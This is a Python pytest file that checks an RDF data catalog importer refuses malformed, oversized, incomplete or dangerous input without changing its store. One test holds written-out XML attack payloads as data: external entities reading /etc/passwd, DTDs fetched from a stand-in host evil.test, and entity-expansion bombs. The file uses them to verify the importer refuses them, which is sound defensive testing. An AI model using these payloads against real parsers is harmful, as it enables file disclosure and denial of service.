"""Bad input gets a clear error naming what and where, and leaves the store as it was."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from catalog.errors import CatalogError, InputError, InputTooLarge, NotFound, ValidationError
from catalog.importer import import_document, load_document
from catalog.rdf_io import Document, parse
from catalog.store import Store
from tests.conftest import EXAMPLES

GOOD = (
    (EXAMPLES / "v3.0" / "Dataset-und-Distribution.ttl").read_bytes() if EXAMPLES.is_dir() else b""
)

DATASET = """
@prefix dcat: <http://www.w3.org/ns/dcat#> . @prefix dct: <http://purl.org/dc/terms/> .
@prefix foaf: <http://xmlns.com/foaf/0.1/> .
<http://x.test/ds/{name}> a dcat:Dataset ; dct:title "Titel {name}"@de ; dct:description "Beschreibung"@de ;
  {publisher}
  dcat:distribution <http://x.test/ds/{name}/csv> .
<http://x.test/ds/{name}/csv> a dcat:Distribution ; dcat:accessURL <http://x.test/f.csv> {license} .
"""
PUBLISHER = 'dct:publisher [ a foaf:Organization ; foaf:name "Umweltamt"@de ] ;'
LICENSE = "; dct:license <http://dcat-ap.de/def/licenses/dl-by-de/2.0>"


def dataset(name: str, publisher: bool = True, license: bool = True) -> bytes:
    text = DATASET.format(
        name=name, publisher=PUBLISHER if publisher else "", license=LICENSE if license else ""
    )
    return text.encode()


def snapshot(store: Store) -> dict[str, tuple[str, str]]:
    return {r.uri: (r.record_json, r.ttl) for r in store.iter_resources()}


@pytest.fixture
def filled(store: Store) -> Store:
    import_document(store, Document(GOOD, "good.ttl", "turtle"))
    import_document(store, Document(dataset("a"), "a.ttl", "turtle"))
    return store


def refused(store: Store, data: bytes, fmt: str, error: type = InputError) -> InputError:
    before = snapshot(store)
    with pytest.raises(error) as info:
        import_document(store, Document(data, "upload." + fmt, fmt))
    assert snapshot(store) == before, "a refused document must not change the store"
    return info.value


def test_malformed_turtle_names_the_line(filled: Store) -> None:
    data = b'@prefix dct: <http://purl.org/dc/terms/> .\n\n<http://x.test/a> dct:title "open\n'
    err = refused(filled, data, "turtle")
    assert "line" in err.problems[0].where and "upload.turtle" in err.problems[0].where
    assert err.problems[0].de.startswith("Syntaxfehler") and err.problems[0].en.startswith(
        "syntax error"
    )


def test_malformed_rdfxml(filled: Store) -> None:
    err = refused(
        filled,
        b'<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">\n<rdf:Description>\n</rdf:RDF>',
        "xml",
    )
    assert err.problems[0].rule == "syntax:xml"


def test_malformed_jsonld(filled: Store) -> None:
    err = refused(
        filled, b'{"@id": "http://x.test/a",\n "http://purl.org/dc/terms/title": [}', "json-ld"
    )
    assert "line 2" in err.problems[0].where


def test_remote_jsonld_context_is_not_fetched(filled: Store) -> None:
    err = refused(
        filled,
        b'{"@context": "https://schema.example/ctx.jsonld", "@id": "http://x.test/a"}',
        "json-ld",
    )
    assert err.problems[0].rule == "json-ld-context"


@pytest.mark.parametrize(
    ("name", "doc"),
    [
        (
            "external entity",
            b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dct="http://purl.org/dc/terms/">'
            b'<rdf:Description rdf:about="http://x.test/a"><dct:title>&xxe;</dct:title></rdf:Description></rdf:RDF>',
        ),
        (
            "external DTD",
            b'<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "http://evil.test/x.dtd">\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
        ),
        (
            "parameter entity",
            b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/p">%p;]>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
        ),
        (
            "billion laughs",
            b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>\n'
            b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dct="http://purl.org/dc/terms/">'
            b'<rdf:Description rdf:about="http://x.test/a"><dct:title>&d;</dct:title></rdf:Description></rdf:RDF>',
        ),
        (
            "quadratic blowup",
            b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "' + b"x" * 50_000 + b'">]>\n'
            b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dct="http://purl.org/dc/terms/">'
            b'<rdf:Description rdf:about="http://x.test/a"><dct:title>'
            + b"&a;" * 1000
            + b"</dct:title></rdf:Description></rdf:RDF>",
        ),
    ],
)
def test_dangerous_xml_is_refused_never_resolved(filled: Store, name: str, doc: bytes) -> None:
    err = refused(filled, doc, "xml")
    assert err.problems[0].rule == "xml-entities", name
    assert "security" in err.problems[0].en


def test_namespace_entities_as_in_owl_files_are_allowed() -> None:
    doc = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [<!ENTITY dct "http://purl.org/dc/terms/">]>\n'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dct="&dct;">'
        b'<rdf:Description rdf:about="http://x.test/a"><dct:title>T</dct:title></rdf:Description></rdf:RDF>'
    )
    assert len(parse(Document(doc, "owl.rdf", "xml"))) == 1


def test_a_200_mb_file_is_refused_before_reading(filled: Store, tmp_path: Path) -> None:
    big = tmp_path / "big.ttl"
    with open(big, "wb") as f:
        f.truncate(200 * 1024 * 1024)  # sparse: 200 MB without writing them
    before = snapshot(filled)
    with pytest.raises(InputTooLarge) as info:
        load_document(str(big))
    assert "209,715,200 bytes" in info.value.problems[0].en
    assert info.value.status == 413
    assert snapshot(filled) == before
    os.remove(big)


@pytest.mark.parametrize(
    ("missing", "field", "rule"),
    [
        ("publisher", "publisher", "mandatory:dcterms:publisher"),
        ("license", "license", "mandatory:dcterms:license"),
    ],
)
def test_dataset_without_publisher_or_licence(
    filled: Store, missing: str, field: str, rule: str
) -> None:
    data = dataset("b", publisher=missing != "publisher", license=missing != "license")
    err = refused(filled, data, "turtle", ValidationError)
    (p,) = err.problems
    assert p.rule == rule
    assert field in p.where and "http://x.test/ds/b" in p.where
    assert "Pflichtangabe fehlt" in p.de and "missing mandatory property" in p.en


def test_one_bad_record_refuses_the_whole_document(filled: Store) -> None:
    data = dataset("c") + dataset("d", license=False)
    err = refused(filled, data, "turtle", ValidationError)
    assert len(err.problems) == 1 and "ds/d" in err.problems[0].where
    with pytest.raises(NotFound):  # nothing of the document was stored
        filled.get("c")


def test_update_that_breaks_a_rule_keeps_the_old_version(filled: Store) -> None:
    old = filled.get("a").record_json
    refused(filled, dataset("a", publisher=False), "turtle", ValidationError)
    assert filled.get("a").record_json == old


def test_invalid_iri_is_refused_even_when_incomplete_records_are_accepted(filled: Store) -> None:
    data = dataset("e").replace(b"<http://x.test/f.csv>", b"<not an iri>")
    before = snapshot(filled)
    with pytest.raises(CatalogError) as info:
        import_document(filled, Document(data, "e.ttl", "turtle"), strict=False)
    assert "line" in info.value.problems[0].where or info.value.problems[0].rule == "iri"
    assert snapshot(filled) == before


def test_unknown_format_and_missing_file() -> None:
    with pytest.raises(InputError) as info:
        load_document("/nonexistent/file.ttl")
    assert info.value.problems[0].en == "file not found"
    with pytest.raises(InputError):
        parse(Document(b"x", "x", "n3-star"))


def test_document_without_datasets(filled: Store) -> None:
    err = refused(filled, b'<http://x.test/a> <http://purl.org/dc/terms/title> "x" .', "turtle")
    assert err.problems[0].rule == "no-datasets"


def test_two_distributions_with_one_iri_are_refused(filled: Store) -> None:
    from catalog import model

    dist = model.Distribution(uri="http://x.test/d/1", access_urls=["http://x.test/f"], license="http://dcat-ap.de/def/licenses/cc-by/4.0")
    item = model.Dataset(
        uri="http://x.test/d", title={"de": "T"}, description={"de": "D"},
        publisher=model.Agent(name={"de": "Amt"}), distributions=[dist, dist],
    )
    before = snapshot(filled)
    with pytest.raises(ValidationError) as info:
        filled.save([item])
    assert info.value.problems[0].rule == "iri-unique"
    assert "distributions[1]" in info.value.problems[0].where
    assert snapshot(filled) == before
